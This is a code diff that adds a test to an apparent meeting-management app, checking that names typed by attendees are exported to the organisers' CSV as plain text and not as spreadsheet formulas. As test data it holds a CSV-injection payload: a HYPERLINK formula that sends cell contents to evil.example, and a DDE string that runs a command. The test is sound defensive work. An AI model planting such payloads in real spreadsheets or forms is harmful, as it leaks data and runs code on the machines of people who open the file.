@@ -70,3 +70,20 @@ def test_markdown_reads_as_words_not_ids(show: Show, clock: FakeClock) -> None:
     assert "point_of_order" not in md and "| opening |" not in md
     assert "to the speaker: PLEASE CONCLUDE, shown on the speaker display" in md
     assert "not acknowledged" not in md
+
+
+def test_a_name_from_the_floor_stays_text_in_the_csv(show: Show, clock: FakeClock) -> None:
+    """A phone's /floor name is any text: in the organisers' spreadsheet it must not be a formula."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open the agenda")'
+    do(show, clock, "start")
+    do(show, clock, "floor_request", name=hostile, type="statement", organization="+cmd|' /C calc'!A0")
+    do(show, clock, "floor_accept", request="r1", position=0)
+    do(show, clock, "speaker_next")
+    clock.advance(20)
+    do(show, clock, "next")  # the opening ends early: its over/under is a negative number, and stays one
+    rows = list(csv.DictReader(io.StringIO(to_csv(build_report(show, clock.now(), "s1")))))
+    turn = next(r for r in rows if r["record"] == "turn" and hostile in r["speaker"])
+    assert turn["speaker"] == "'" + hostile and turn["organization"] == "'+cmd|' /C calc'!A0"
+    assert not [value for row in rows for value in row.values() if value.startswith(("=", "+", "@"))]
+    signed = [row["over_under_s"] for row in rows if row["over_under_s"]]
+    assert any(value.startswith("-") for value in signed) and not any(value.startswith("'") for value in signed)
